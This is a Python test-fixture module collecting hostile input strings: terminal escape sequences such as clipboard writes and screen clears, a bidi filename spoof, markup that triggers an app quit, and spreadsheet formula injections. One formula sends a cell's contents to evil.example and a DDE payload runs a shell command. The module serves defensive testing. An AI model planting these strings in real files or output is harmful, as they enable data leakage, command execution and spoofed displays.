"""Hostile strings a user or an imported file may type, for any test to reuse.

Each is named for what it would do if it reached a terminal, a markup parser or a
spreadsheet raw. ``ALL`` lists every one.
"""

from __future__ import annotations

# --- terminal escape sequences -------------------------------------------------------------
WINDOW_TITLE = "\x1b]0;evil\x07"  # OSC 0: retitles the terminal window
CLIPBOARD_WRITE = "\x1b]52;c;ZXZpbA==\x07"  # OSC 52: writes "evil" to the clipboard
CLEAR_SCREEN = "\x1b[2J"  # CSI 2 J: wipes the screen
CURSOR_HOME = "\x1b[H"  # CSI H: moves the cursor to the top left
C1_CLEAR_SCREEN = "\x9b2J"  # the same as CLEAR_SCREEN with the 8-bit CSI (U+009B)
C1_OSC_TITLE = "\x9d0;evil\x9c"  # OSC / ST in their 8-bit forms
HYPERLINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8 link
ESCAPES = [WINDOW_TITLE, CLIPBOARD_WRITE, CLEAR_SCREEN, CURSOR_HOME, C1_CLEAR_SCREEN, C1_OSC_TITLE, HYPERLINK]

# --- single control characters ---------------------------------------------------------------
NUL = "\x00"
BEL = "\x07"
BACKSPACE = "\x08"
TAB = "\t"
NEWLINE = "\n"
CARRIAGE_RETURN = "\r"
ESC = "\x1b"
DEL = "\x7f"
C0 = [chr(code) for code in range(0x20)]
C1 = [chr(code) for code in range(0x80, 0xA0)]
CSI_8BIT = "\x9b"

# --- bidi controls: reorder what a terminal that does bidi shows -----------------------------
BIDI_OVERRIDES = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e"]  # LRE RLE PDF LRO RLO
BIDI_ISOLATES = ["\u2066", "\u2067", "\u2068", "\u2069"]  # LRI RLI FSI PDI
BIDI = BIDI_OVERRIDES + BIDI_ISOLATES
RIGHT_TO_LEFT_OVERRIDE = "\u202eelif.exe\u202c"  # shows as "exe.file" on a bidi terminal

# --- markup: must show literally, never run or style -----------------------------------------
MARKUP_CLICK = "[@click=app.quit]Acme"
MARKUP_BOLD = "[bold]x[/]"
MARKUP_LINK = "[link=https://evil.example]Acme[/link]"
MARKUP = [MARKUP_CLICK, MARKUP_BOLD, MARKUP_LINK]

# --- size --------------------------------------------------------------------------------------
LONG_WORD = "A" * 5000
LONG_WORDS = "Acme " * 2000
WIDE_CHARACTERS = "漢字" * 500

# --- spreadsheet formulas: cells a spreadsheet would run -------------------------------------
FORMULA_HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FORMULA_PLUS = "+1"
FORMULA_MINUS = "-2"
FORMULA_AT = "@SUM(A1:A9)"
FORMULA_TAB = "\tx"
FORMULA_CR = "\rx"
FORMULA_DDE = "=cmd|' /C calc'!A0"
FORMULAS = [FORMULA_HYPERLINK, FORMULA_PLUS, FORMULA_MINUS, FORMULA_AT, FORMULA_TAB, FORMULA_CR, FORMULA_DDE]

# --- one string carrying the terminal attacks and markup, for a title --------------------------
TERMINAL_ATTACK = f"{WINDOW_TITLE}{CLIPBOARD_WRITE}{CLEAR_SCREEN}{C1_CLEAR_SCREEN}"


def hostile(name: str) -> str:
    """A short hostile title: ``name`` amid every terminal attack and both markups."""
    return f"{MARKUP_CLICK} {name}{TERMINAL_ATTACK} {MARKUP_BOLD}"


ALL = [
    *ESCAPES,
    *C0,
    DEL,
    *C1,
    *BIDI,
    RIGHT_TO_LEFT_OVERRIDE,
    *MARKUP,
    LONG_WORD,
    LONG_WORDS,
    WIDE_CHARACTERS,
    *FORMULAS,
    TERMINAL_ATTACK,
]
